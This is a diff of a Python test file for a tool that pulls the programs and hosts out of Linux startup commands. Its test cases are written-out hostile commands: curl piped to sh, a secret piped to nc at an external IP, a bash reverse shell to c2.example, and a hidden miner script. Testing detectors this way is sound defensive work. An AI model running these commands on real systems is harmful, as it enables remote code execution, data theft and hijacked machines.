@@ -88,7 +88,7 @@ def test_a_command_on_several_lines_is_one() -> None:
             rc_path: "#!/bin/sh\nwget -q \\\n  http://rc.example/y\n",
         },
         "read_all": {
-            **dict.fromkeys(ASKED, []), "/proc/[0-9]*/comm": ["/proc/1/comm"], ASKED[-2]: [unit_path], rc_path: [rc_path],
+            **{key: [] for key in ASKED}, "/proc/[0-9]*/comm": ["/proc/1/comm"], ASKED[-2]: [unit_path], rc_path: [rc_path],
         },
     }  # fmt: skip
     told = {(one.place, one.programs, one.hosts) for one in linux(ReplayShell(recording)).startup or ()}
@@ -107,6 +107,7 @@ SECRET = "mat-khau-bi-mat"
         (f"mysqldump -u root -p{SECRET} --all-databases | gzip > /backup/x.gz", ("mysqldump", "gzip"), ()),
         (f"PASS={SECRET} /opt/tool --password {SECRET}", ("tool",), ()),
         (f"curl -u a:{SECRET} https://u:{SECRET}@files.example:8443/x?token={SECRET} | sh", ("curl", "sh"), ("files.example",)),
+        (f"curl https://u:a@{SECRET}@files.example/x", ("curl",), ("files.example",)),
         (f"/bin/sh -c 'echo {SECRET} | nc 203.0.113.7 4444'", ("sh", "echo", "nc"), ("203.0.113.7",)),
         ("bash -i >& /dev/tcp/c2.example/4444 0>&1", ("bash",), ("c2.example",)),
         ("nice -n 10 timeout 60 python3 /tmp/.x/miner.py", ("nice", "timeout", "python3", "miner.py"), ()),
